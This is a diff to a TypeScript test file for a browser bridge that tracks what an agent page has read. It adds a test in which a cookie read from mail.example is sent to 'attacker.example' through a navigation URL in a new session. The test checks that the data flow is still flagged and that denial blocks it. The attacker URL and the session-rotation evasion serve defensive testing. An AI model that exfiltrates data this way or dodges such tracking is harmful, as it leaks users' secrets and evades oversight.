@@ -20,13 +20,13 @@ function setUp() {
     updatePolicy: update,
     toolNames: [],
   });
-  const ctx = { signal: new AbortController().signal, calls: createCallTracker() };
+  const ctx = { signal: new AbortController().signal, calls: createCallTracker(), runId: 'abp-page:test' };
   const send = (payload: object) => route({ type: 'ABP_NOTE_READ', payload }, 'extension-page', ctx);
-  const navigate = (url: string) =>
+  const navigate = (url: string, sessionId = 's1') =>
     route(
       {
         type: 'ABP_AUTHORIZE',
-        payload: { requestId: 'n', sessionId: 's1', operation: 'browser_navigate.open', url },
+        payload: { requestId: 'n', sessionId, operation: 'browser_navigate.open', url },
       },
       'extension-page',
       ctx,
@@ -52,6 +52,16 @@ describe('ABP_NOTE_READ: the bridge notes what it read outside Bosun', () => {
       value: { payload: { response: { success: true } } },
     });
     expect(shown).toHaveLength(1);
+  });
+
+  it('a new session of the same ABP page keeps what the last one read: rotating sessions does not shed it', async () => {
+    const { send, navigate, shown, prompts } = setUp();
+    await send({ requestId: 'r1', sessionId: 's1', url: 'https://mail.example/', text: COOKIE });
+    const leaving = navigate('https://attacker.example/?c=Xk93pQ7vLm2Z', 's2');
+    await settle();
+    expect(shown[0]?.dataFlow).toEqual([{ text: 'Xk93pQ7vLm2Z', from: ['mail.example'], to: 'attacker.example' }]);
+    prompts.answer(shown[0]!.id, 'deny');
+    expect(await leaving).toMatchObject({ value: { payload: { response: { success: false } } } });
   });
 
   it.each([
